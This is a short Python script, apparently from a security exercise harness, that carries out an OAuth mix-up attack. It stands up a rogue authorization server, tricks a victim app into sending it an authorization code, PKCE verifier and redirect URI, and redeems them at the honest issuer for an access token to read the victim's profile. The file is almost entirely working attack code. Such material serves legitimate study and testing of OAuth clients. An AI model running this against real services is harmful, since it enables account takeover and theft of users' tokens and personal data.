"""Two servers mixed up: the app brings the honest one's code to ours."""

import requests


def attack(exercise):
    honest = f"{exercise.issuer}/connect/authorize"
    ours = f"{exercise.second}/operator"
    requests.post(ours, json={"forward_to": honest})

    exercise.victim.opens(f"{exercise.app}/login?server=second")
    if not exercise.leaks():
        return  # the app sent nothing to our token endpoint
    brought = exercise.leaks()["token_request"]

    answer = requests.post(
        f"{exercise.issuer}/connect/token",
        data={
            "grant_type": "authorization_code",
            "code": brought["code"],
            "client_id": exercise.client_id,
            "redirect_uri": brought["redirect_uri"],
            "code_verifier": brought["code_verifier"],
        },
    )
    if answer.ok:
        token = answer.json()["access_token"]
        bearer = {"Authorization": f"Bearer {token}"}
        requests.get(f"{exercise.issuer}/v1/profile", headers=bearer)
